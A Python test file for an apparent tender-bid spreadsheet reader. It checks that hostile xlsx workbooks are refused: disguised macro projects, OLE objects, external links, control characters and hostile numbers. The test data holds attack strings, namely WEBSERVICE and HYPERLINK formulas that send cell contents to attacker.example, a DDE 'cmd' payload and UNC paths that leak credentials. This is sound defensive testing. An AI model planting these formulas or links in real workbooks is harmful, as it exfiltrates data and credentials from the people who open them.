"""The attacker's workbooks from the issue tracker: each is refused naming its sheet and cell or its part, never
with an exception other than ``WorkbookRejected``, and the self-check never raises for any of them.

Cells of the test template: see ``test_rejections.py``. Template formulas: Quality H5..H7 (word counts), Pricing C25
and VCSE partners E35 (totals).
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable

import pytest
from openpyxl.workbook.workbook import Workbook

from tenderscore.core.rubric import Rubric
from tenderscore.sheets import FilledBid, TemplateIdentity, WorkbookRejected, fill_template, read_workbook, self_check
from tenderscore.sheets.cells import _CONTROL, _control_character
from tenderscore.sheets.guard import open_archive
from tenderscore.sheets.ooxml import Package
from tenderscore.sheets.reading import WorkbookReading
from tests.sheets.xlsx_tools import as_other_program, build, edit, parts, put_cell, rewrite, sheet_part

Read = Callable[[bytes], WorkbookReading]
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(17)
OLE = bytes.fromhex("D0CF11E0A1B11AE1") + bytes(504)
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_RELS = "http://schemas.microsoft.com/office/2006/relationships/"
WORDS_H5 = 'IF(LEN(TRIM(SUBSTITUTE(G5,CHAR(10)," ")))=0,0,LEN(TRIM(SUBSTITUTE(G5,CHAR(10)," ")))-LEN(SUBSTITUTE(TRIM(SUBSTITUTE(G5,CHAR(10)," "))," ",""))+1)'  # noqa: E501


@pytest.fixture(scope="module")
def good(template: bytes, bid: FilledBid) -> bytes:
    """The good bid, built once for the module."""
    return fill_template(template, bid)


def refused(rubric: Rubric, tender: TemplateIdentity, data: bytes, *fragments: str) -> str:
    with pytest.raises(WorkbookRejected) as caught:
        read_workbook(data, rubric, tender)
    message = str(caught.value)
    for fragment in fragments:
        assert fragment in message, message
    result = self_check(data, rubric, tender)
    assert result.rejected == message and not result.ok
    return message


def errors_at(reading: WorkbookReading) -> dict[str, str]:
    assert reading.response is None, "a workbook with errors must give no response"
    return {error.where: error.message for error in reading.errors}


def add_relationship(data: bytes, rels_part: str, kind: str, target: str, mode: str = "") -> bytes:
    members = parts(data)
    relationship = f'<Relationship Id="rIdX" Type="{kind}" Target="{target}"{mode}/>'
    if rels_part in members:
        members[rels_part] = members[rels_part].replace(
            b"</Relationships>", relationship.encode() + b"</Relationships>"
        )
    else:
        members[rels_part] = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f"{relationship}</Relationships>"
        ).encode()
    return build(members)


def with_png_default(data: bytes) -> bytes:
    def change(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml" and b'Extension="png"' not in content:
            return content.replace(b"</Types>", b'<Default Extension="png" ContentType="image/png"/></Types>')
        return content

    return rewrite(data, change)


# --- numbers that are not finite decimals of sane size ------------------------------------------------------


def percent_style(data: bytes) -> int:
    with open_archive(data) as archive:
        return min(Package(archive).percent_styles())


def as_percent(wb: Workbook) -> None:
    wb["Commitments"]["G5"].number_format = "0%"


HOSTILE_NUMBERS = ["1234567890123456E+999999", "9E+999999", "-9E+999999", "sNaN", "NaN", "1E-999999", "1_000", "١٢"]


@pytest.mark.parametrize("stored", HOSTILE_NUMBERS)
@pytest.mark.parametrize(
    ("sheet", "cell"),
    [
        ("Commitments", "G5"),  # percent, formatted as a percentage below
        ("Commitments", "G6"),  # FTE
        ("Commitments", "G7"),  # weeks
        ("Pricing", "C5"),  # money
        ("VCSE partners", "E5"),  # money
        ("Bidder details", "B5"),  # text asked for
        ("Bidder details", "B6"),  # company number
        ("Declarations", "E5"),  # Yes/No
    ],
)
def test_numbers_that_are_not_sane_decimals_name_their_cell(
    read: Read, good: bytes, stored: str, sheet: str, cell: str
) -> None:
    base = edit(good, as_percent) if cell == "G5" else good
    style = f' s="{percent_style(base)}"' if cell == "G5" else ""
    data = put_cell(base, sheet, cell, f'<c r="{cell}"{style}><v>{stored}</v></c>')
    found = errors_at(read(data))
    assert f"{sheet}!{cell}" in found, found
    assert "enter a number" in found[f"{sheet}!{cell}"]


def test_the_percent_overflow_from_the_issue(read: Read, good: bytes) -> None:
    base = edit(good, as_percent)
    for stored in ("9E+999999", "sNaN"):
        data = put_cell(base, "Commitments", "G5", f'<c r="G5" s="{percent_style(base)}"><v>{stored}</v></c>')
        assert "Commitments!G5" in errors_at(read(data))


def test_a_long_but_sane_double_still_reads(read: Read, good: bytes) -> None:
    data = put_cell(good, "Commitments", "G6", '<c r="G6"><v>3.4999999999999996E0</v></c>')
    reading = read(data)
    assert reading.errors == () and reading.response is not None


# --- the styles part ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'<xf numFmtId="0"', b'<xf numFmtId="abc"'),
        (b'numFmtId="164"', b'numFmtId="1e3"'),
        (b'<xf numFmtId="0" fontId="0"', b'<xf numFmtId="0" fontId="-1"'),
        (b'<cellXfs count="', b'<cellXfs count="x'),
    ],
)
def test_garbage_in_the_styles_part_is_refused_naming_it(
    rubric: Rubric, tender: TemplateIdentity, good: bytes, old: bytes, new: bytes
) -> None:
    assert old in parts(good)["xl/styles.xml"]
    data = rewrite(good, lambda name, content: content.replace(old, new, 1) if name == "xl/styles.xml" else content)
    refused(rubric, tender, data, "xl/styles.xml", "not a whole number")


# --- macros, embedded objects and links, by relationship type and content -------------------------------------


def test_macro_project_under_an_image_name_linked_as_vba_project(
    rubric: Rubric, tender: TemplateIdentity, good: bytes
) -> None:
    data = with_png_default(build(parts(good) | {"xl/media/image1.png": OLE}))
    data = add_relationship(data, "xl/_rels/workbook.xml.rels", MS_RELS + "vbaProject", "media/image1.png")
    refused(rubric, tender, data, "macros")


def test_a_vba_project_relationship_is_refused_whatever_its_target_holds(
    rubric: Rubric, tender: TemplateIdentity, good: bytes
) -> None:
    data = with_png_default(build(parts(good) | {"xl/media/image1.png": PNG}))
    read_workbook(data, rubric, tender)  # a real picture is fine
    data = add_relationship(data, "xl/_rels/workbook.xml.rels", MS_RELS + "vbaProject", "media/image1.png")
    refused(rubric, tender, data, "macros", "vbaproject")


def test_ole_content_is_refused_whatever_the_part_is_called(
    rubric: Rubric, tender: TemplateIdentity, good: bytes
) -> None:
    data = with_png_default(build(parts(good) | {"xl/media/image1.png": OLE}))
    refused(rubric, tender, data, "macros", "xl/media/image1.png")


def test_an_image_that_is_not_one_is_refused(rubric: Rubric, tender: TemplateIdentity, good: bytes) -> None:
    data = with_png_default(build(parts(good) | {"xl/media/image1.png": b"MZ\x90\x00 an executable"}))
    refused(rubric, tender, data, "xl/media/image1.png", "not the image")


def test_a_declared_macro_content_type_is_refused_even_without_its_part(
    rubric: Rubric, tender: TemplateIdentity, good: bytes
) -> None:
    default = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    data = rewrite(good, lambda n, c: c.replace(b"</Types>", default) if n == "[Content_Types].xml" else c)
    refused(rubric, tender, data, "macros")


@pytest.mark.parametrize(
    "kind",
    [
        RELS + "oleObject",
        RELS + "externalLink",
        RELS + "attachedTemplate",
        RELS + "control",
        MS_RELS + "activeXControlBinary",
        RELS + "ctrlProp",
        RELS + "package",
        MS_RELS + "xlMacrosheet",
        "http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject",
    ],
)
@pytest.mark.parametrize("rels_part", ["xl/worksheets/_rels/sheet2.xml.rels", "_rels/.rels"])
def test_dangerous_relationship_types_are_refused_wherever_they_appear(
    rubric: Rubric, tender: TemplateIdentity, good: bytes, kind: str, rels_part: str
) -> None:
    data = with_png_default(build(parts(good) | {"xl/media/image1.png": PNG}))
    data = add_relationship(data, rels_part, kind, "/xl/media/image1.png")
    refused(rubric, tender, data, "not accepted")


@pytest.mark.parametrize(
    ("target", "mode"),
    [
        ("file:///C:/secret/prices.xlsx", ""),  # an "internal" target that is not a part of the package
        ("\\\\attacker\\share\\x.png", ""),
        ("file://attacker/share/", ' TargetMode="External"'),  # a hyperlink that leaks credentials when clicked
    ],
)
def test_relationships_leaving_the_package_are_refused(
    rubric: Rubric, tender: TemplateIdentity, good: bytes, target: str, mode: str
) -> None:
    data = add_relationship(good, "xl/worksheets/_rels/sheet2.xml.rels", RELS + "hyperlink", target, mode)
    refused(rubric, tender, data, "external file or address")


# --- formulas outside the answer cells ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sheet", "cell", "formula"),
    [
        ("Quality", "D9", 'HYPERLINK("http://attacker.example/?"&amp;G5,"Click for appendix")'),
        ("Instructions", "C3", 'WEBSERVICE("http://attacker.example/steal")'),
        ("Pricing", "D5", "cmd|'/c calc'!A1"),
        ("_tenderscore", "E1", "1+1"),
        ("Quality", "H5", 'HYPERLINK("http://attacker.example/")'),  # the word count's own cell
        ("Pricing", "C25", 'SUM(C5:C24)+WEBSERVICE("http://attacker.example/")'),  # the total's own cell
        ("VCSE partners", "E35", "SUM(E5:E33)"),  # the total, but not the template's
    ],
)
def test_any_formula_outside_the_answer_cells_is_refused(
    read: Read, good: bytes, sheet: str, cell: str, formula: str
) -> None:
    data = put_cell(good, sheet, cell, f'<c r="{cell}"><f>{formula}</f><v>0</v></c>')
    found = errors_at(read(data))
    assert list(found) == [f"{sheet}!{cell}"], found
    shown = formula.replace("&amp;", "&")[:30]
    assert f"formula (={shown}" in found[f"{sheet}!{cell}"] and "type the value itself" in found[f"{sheet}!{cell}"]


def test_shared_and_array_formulas_outside_the_answer_cells_are_refused(read: Read, good: bytes) -> None:
    data = put_cell(good, "Quality", "D6", '<c r="D6"><f t="shared" ref="D6:D7" si="7">HYPERLINK("h://x")</f></c>')
    data = put_cell(data, "Quality", "D7", '<c r="D7"><f t="shared" si="7"/></c>')
    data = put_cell(data, "Pricing", "D5", '<c r="D5"><f t="array" ref="D5:D6">WEBSERVICE("h://x")</f></c>')
    assert set(errors_at(read(data))) == {"Quality!D6", "Quality!D7", "Pricing!D5"}


def test_the_template_formulas_pass_as_excel_shares_and_spaces_them(read: Read, good: bytes) -> None:
    spaced = WORDS_H5.replace(",0,", ", 0, ").replace("G5", "$G5")
    data = put_cell(good, "Quality", "H5", f'<c r="H5"><f t="shared" ref="H5:H7" si="0">{spaced}</f></c>')
    data = put_cell(data, "Quality", "H6", '<c r="H6"><f t="shared" si="0"/><v>3</v></c>')
    data = put_cell(data, "Quality", "H7", '<c r="H7"><f t="shared" si="0"/><v>3</v></c>')
    data = put_cell(data, "Pricing", "C25", '<c r="C25"><f>sum( $C$5:$C$24 )</f><v>1</v></c>')
    assert read(data).errors == ()
    assert read(as_other_program(data)).errors == ()


def test_a_shared_word_count_copied_elsewhere_is_refused(read: Read, good: bytes) -> None:
    data = put_cell(good, "Quality", "H5", f'<c r="H5"><f t="shared" ref="H5:H8" si="0">{WORDS_H5}</f></c>')
    data = put_cell(data, "Quality", "H8", '<c r="H8"><f t="shared" si="0"/></c>')
    found = errors_at(read(data))
    assert list(found) == ["Quality!H8"] and "G8" in found["Quality!H8"]


def test_a_computing_data_validation_is_refused_naming_its_part(
    rubric: Rubric, tender: TemplateIdentity, good: bytes
) -> None:
    part = sheet_part(good, "Declarations")
    data = rewrite(
        good,
        lambda n, c: (
            re.sub(rb"<formula1>[^<]*</formula1>", b'<formula1>WEBSERVICE("http://x")</formula1>', c, count=1)
            if n == part
            else c
        ),
    )
    refused(rubric, tender, data, part, "WEBSERVICE")


def test_a_defined_name_that_computes_is_refused(rubric: Rubric, tender: TemplateIdentity, good: bytes) -> None:
    name = b'<definedName name="evil">WEBSERVICE("http://x")</definedName></definedNames>'
    data = rewrite(good, lambda n, c: c.replace(b"</definedNames>", name) if n == "xl/workbook.xml" else c)
    refused(rubric, tender, data, "xl/workbook.xml", "evil")


# --- control characters in text ------------------------------------------------------------------------------


@pytest.mark.parametrize("escape", ["_x0000_", "_x001B_", "_x0007_", "_x000B_", "_xD800_"])
def test_control_characters_in_an_inline_string_are_refused(read: Read, good: bytes, escape: str) -> None:
    data = put_cell(good, "Quality", "G5", f'<c r="G5" t="inlineStr"><is><t>Our{escape}answer</t></is></c>')
    found = errors_at(read(data))
    assert list(found) == ["Quality!G5"] and "control character" in found["Quality!G5"]


def test_control_characters_in_shared_strings_are_refused(read: Read, good: bytes) -> None:
    data = as_other_program(good)
    data = rewrite(
        data,
        lambda n, c: c.replace(b"Sam Example", b"Sam_x001B_[31mExample") if n == "xl/sharedStrings.xml" else c,
    )
    found = errors_at(read(data))
    assert list(found) == ["Bidder details!B8"] and "U+001B" in found["Bidder details!B8"]


def test_tabs_and_new_lines_are_still_text(read: Read, good: bytes) -> None:
    data = put_cell(good, "Quality", "G5", '<c r="G5" t="inlineStr"><is><t>a_x0009_b_x000D__x000A_c</t></is></c>')
    reading = read(data)
    assert reading.response is not None and reading.response.answers["q1"] == "a\tb\r\nc"


def test_the_control_character_check_finds_what_the_expression_finds() -> None:
    """``_control_character`` (UTF-8 bytes checked in C) against ``_CONTROL``, on texts of every kind of character
    it could mistake: tab, LF, CR, DEL, C1 controls, non-ASCII and astral letters, private use, lone surrogates."""
    pool = ["a", " ", "\t", "\n", "\r", "é", "’", "€", "\U0001f600", "\x00", "\x07", "\x1b", "\x1f", "\x0b", "\x7f",
            "\x85", "\ud800", "\udfff", "\ue000"]  # fmt: skip
    chooser = random.Random(17)
    for _ in range(5000):
        text = "".join(chooser.choice(pool) for _ in range(chooser.randint(0, 12)))
        expected = _CONTROL.search(text)
        assert _control_character(text) == (expected.group() if expected else None), repr(text)
